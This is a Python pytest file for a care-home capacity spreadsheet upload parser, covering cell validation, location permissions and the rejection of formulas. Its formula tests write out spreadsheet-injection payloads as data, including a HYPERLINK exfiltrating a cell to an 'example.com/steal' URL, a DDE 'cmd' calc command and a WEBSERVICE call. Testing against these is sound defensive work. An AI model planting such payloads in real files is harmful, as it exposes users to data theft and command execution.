"""The bulk update spreadsheet read back: a bad cell is an error on its row
and column, and a formula is an error, never evaluated."""
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from capacity.spreadsheet import CAPACITY_HEADERS, RowError, TemplateLocation, build_template, read_upload

from .spreadsheet_helpers import (ACORN, ALL_IDS, BIRCH, GENERATED_AT, _column, _edit, _expected_current, _row,
                                  _set, _vacancy)


# -- row errors ----------------------------------------------------------------------------
@pytest.mark.parametrize("header, value, message", [
    ("Maximum capacity", "twenty", "Maximum capacity must be a whole number"),
    ("Occupied", 12.5, "Occupied must be a whole number"),
    ("Occupied", "12.5", "Occupied must be a whole number"),
    ("Vacant reserved", -1, "Vacant reserved must be 0 or more"),
    ("Vacant accepting admissions", "-3", "Vacant accepting admissions must be 0 or more"),
    ("Vacant not available", True, "Vacant not available must be a whole number"),
    ("Vacant not available", datetime(2024, 1, 1), "Vacant not available must be a whole number"),
    ("Maximum capacity", None, "Enter the number for maximum capacity"),
    ("Maximum capacity", 1_000_000, "Maximum capacity must be 2,000 or fewer"),
    ("Weekly price from (£)", "cheap", "The weekly price from must be an amount in pounds"),
    ("Weekly price from (£)", "+44 7700 900123", "The weekly price from must be an amount in pounds"),
    ("Weekly price from (£)", 100, "The weekly price from must be more than £100"),
    ("Weekly price from (£)", 850.555, "The weekly price from must be in pounds and pence"),
    ("Weekly price from (£)", None, "Enter the weekly price from"),
    ("Vacancy type", "Dementia Care", "Vacancy type ‘Dementia Care’ is not recognised"),
    ("Reason not available", "Flooding", "Reason not available ‘Flooding’ is not recognised"),
    ("Reason not available", None, "Choose a reason why the vacant beds are not available"),
    ("Flexible (Y/N)", "Maybe", "Flexible must be Y or N"),
    ("Flexible (Y/N)", 1, "Flexible must be Y or N"),
    ("Maximum capacity", 19, "add up to 20, which is more than the maximum capacity of 19"),
])
def test_a_bad_capacity_cell_is_an_error_on_its_row_and_column(template, header, value, message):
    data, row = _set(template, "Capacities", "1-100", "Dementia Nursing", header, value)
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    column = "Maximum capacity" if "add up to" in message else header
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", row, column)]
    assert message in parsed.errors[0].message
    assert parsed.locations_with_errors == {"1-100"}
    # all or nothing: the location's good row is not applied either; the others are
    assert "1-100" not in parsed.returns
    assert parsed.returns == {"1-200": _expected_current(BIRCH)}


@pytest.mark.parametrize("header, value, message", [
    ("Accepts out-of-hours admissions (Y/N)", "Sometimes", "Accepts out-of-hours admissions must be Y or N"),
    ("Short stay price: Respite care (£)", "cheap", "must be an amount in pounds"),
    ("Short stay price: Respite care (£)", -5, "must be more than £100"),
])
def test_a_bad_care_homes_cell_is_an_error_on_its_row_and_column(template, header, value, message):
    data, row = _set(template, "Care Homes", "1-100", None, header, value)
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Care Homes", row, header)]
    assert message in parsed.errors[0].message
    assert parsed.locations_with_errors == {"1-100"}
    assert set(parsed.returns) == {"1-200"}


def test_yes_no_accepts_blank_and_any_case(template):
    data, _ = _set(template, "Care Homes", "1-100", None, "Accepts out-of-hours admissions (Y/N)", None)
    data, _ = _set(data, "Capacities", "1-100", "Dementia Nursing", "Flexible (Y/N)", "y")
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert parsed.errors == []
    assert parsed.returns["1-100"]["out_of_hours_admissions"] is None
    assert parsed.returns["1-100"]["vacancies"][0]["flexible"] is True


def test_labels_are_read_as_vocabulary_keys(template):
    data, _ = _set(template, "Capacities", "1-100", "Dementia Nursing", "Reason not available", "la  SAFEGUARDING")
    vacancy = read_upload(data, allowed_location_ids=ALL_IDS).returns["1-100"]["vacancies"][0]
    assert vacancy["not_available_reason"] == "la_safeguarding"


def test_a_location_the_uploader_may_not_update_is_refused_row_by_row(template):
    parsed = read_upload(template, allowed_location_ids={"1-100", "1-300"})
    birch_errors = [e for e in parsed.errors]
    assert {(e.sheet, e.column) for e in birch_errors} == {("Capacities", "Location ID"), ("Care Homes", "Location ID")}
    assert all("You cannot update location 1-200" in e.message for e in birch_errors)
    assert parsed.locations_with_errors == {"1-200"}
    assert set(parsed.returns) == {"1-100"}


def test_a_location_id_changed_to_another_providers_location_is_refused(template):
    data, row = _set(template, "Capacities", "1-200", "Mental Health Residential", "Location ID", "1-999")
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", row, "Location ID")]
    assert "1-999" in parsed.locations_with_errors and "1-999" not in parsed.returns


def test_duplicate_location_and_vacancy_type_rows_are_errors(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        source = _row(sheet, "1-100", "Dementia Nursing")
        target = sheet.max_row + 1
        for column in range(1, len(CAPACITY_HEADERS) + 1):
            sheet.cell(row=target, column=column).value = sheet.cell(row=source, column=column).value

    data = _edit(template, change)
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert len(parsed.errors) == 1
    error = parsed.errors[0]
    assert (error.sheet, error.column) == ("Capacities", "Vacancy type")
    assert error.row == load_workbook(io.BytesIO(data))["Capacities"].max_row
    assert "more than once" in error.message and "first on row 2" in error.message
    assert parsed.locations_with_errors == {"1-100"} and set(parsed.returns) == {"1-200"}


def test_one_bad_row_removes_only_its_location(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        sheet.cell(row=_row(sheet, "1-200", "Mental Health Residential"), column=7).value = "lots"
        for label in ("General Nursing", "Young Physically Disabled"):
            row = _row(sheet, "1-300", label)
            for column, value in zip(range(5, 13), (900, 10, 5, 0, 5, 0, None, "N")):
                sheet.cell(row=row, column=column).value = value

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.column) for e in parsed.errors] == [("Capacities", "Occupied")]
    assert parsed.locations_with_errors == {"1-200"}
    assert set(parsed.returns) == {"1-100", "1-300"}
    assert parsed.returns["1-100"] == _expected_current(ACORN)


def test_every_error_of_a_row_is_reported(template):
    def change(workbook):
        sheet = workbook["Capacities"]
        row = _row(sheet, "1-100", "General Residential")
        sheet.cell(row=row, column=5).value = "free"
        sheet.cell(row=row, column=6).value = -1
        sheet.cell(row=row, column=12).value = "X"

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert [e.column for e in parsed.errors] == ["Weekly price from (£)", "Maximum capacity", "Flexible (Y/N)"]
    assert all(isinstance(e, RowError) and e.row == 3 for e in parsed.errors)


# -- formulas ---------------------------------------------------------------------------
@pytest.mark.parametrize("header, value", [
    ("Weekly price from (£)", '=HYPERLINK("http://example.com/steal?x="&A1,"Click here")'),
    ("Occupied", "=1+1"),
    ("Location name", "=HYPERLINK(\"http://example.com\")"),
    ("Postcode", "=A1"),
    ("Flexible (Y/N)", '=IF(1,"Y","N")'),
])
def test_formulas_are_errors_and_never_evaluated(template, header, value):
    data, row = _set(template, "Capacities", "1-100", "Dementia Nursing", header, value)
    assert load_workbook(io.BytesIO(data))["Capacities"].cell(
        row=row, column=_column(CAPACITY_HEADERS, header)).data_type == "f"
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.sheet, e.row, e.column) for e in parsed.errors] == [("Capacities", row, header)]
    assert "formula" in parsed.errors[0].message
    assert parsed.locations_with_errors == {"1-100"} and "1-100" not in parsed.returns


@pytest.mark.parametrize("value", ["@SUM(A1)", "=1+1", "+cmd|' /C calc'!A0", "-2+3*SUM(A1:A3)", " =1+1"])
def test_text_that_looks_like_a_formula_is_a_formula_error(template, value):
    def change(workbook):
        sheet = workbook["Capacities"]
        cell = sheet.cell(row=_row(sheet, "1-100", "Dementia Nursing"), column=6)
        cell.value = value
        cell.data_type = "s"  # stored as text, as a CSV import or a text-formatted cell would

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert [(e.column, "formula" in e.message) for e in parsed.errors] == [("Maximum capacity", True)]


def test_a_formula_in_a_care_homes_cell_or_an_extra_column_is_an_error(template):
    def change(workbook):
        sheet = workbook["Care Homes"]
        sheet.cell(row=_row(sheet, "1-200"), column=3).value = '=IF(TRUE,"Y","N")'
        sheet = workbook["Capacities"]
        sheet.cell(row=_row(sheet, "1-300", "General Nursing"), column=15).value = "=WEBSERVICE(\"http://x\")"

    parsed = read_upload(_edit(template, change), allowed_location_ids=ALL_IDS)
    assert {(e.sheet, e.column) for e in parsed.errors} == {
        ("Care Homes", "Accepts out-of-hours admissions (Y/N)"), ("Capacities", "Column O")}
    assert parsed.locations_with_errors == {"1-200", "1-300"}
    assert set(parsed.returns) == {"1-100"}


def test_a_formula_in_the_location_id_still_holds_back_that_location(template):
    data, row = _set(template, "Capacities", "1-100", "General Residential", "Location ID", '="1-100"')
    parsed = read_upload(data, allowed_location_ids=ALL_IDS)
    assert [(e.row, e.column) for e in parsed.errors] == [(row, "Location ID")]
    assert parsed.locations_with_errors == {"1-100"}  # found by its name
    assert set(parsed.returns) == {"1-200"}


def test_a_phone_number_in_a_price_is_a_wrong_value_not_a_formula(template):
    data, _ = _set(template, "Capacities", "1-100", "Dementia Nursing", "Weekly price from (£)", "+44 7700 900123")
    [error] = read_upload(data, allowed_location_ids=ALL_IDS).errors
    assert "formula" not in error.message and "amount in pounds" in error.message


def test_names_that_look_like_formulas_are_written_as_text():
    odd = TemplateLocation(location_id="1-400", name='=HYPERLINK("http://x","y")', postcode="S70 1AA",
                           long_term_vacancy_types=("general_residential",), short_stay_services=(),
                           out_of_hours_admissions=None,
                           current={"vacancies": [_vacancy("general_residential", "800.00", 5, 5, 0, 0, 0)],
                                    "short_stay_prices": {}})
    data = build_template([odd], generated_at=GENERATED_AT)
    workbook = load_workbook(io.BytesIO(data))
    for sheet in (workbook["Capacities"], workbook["Care Homes"]):
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    parsed = read_upload(data, allowed_location_ids={"1-400"})
    assert parsed.errors == [] and set(parsed.returns) == {"1-400"}
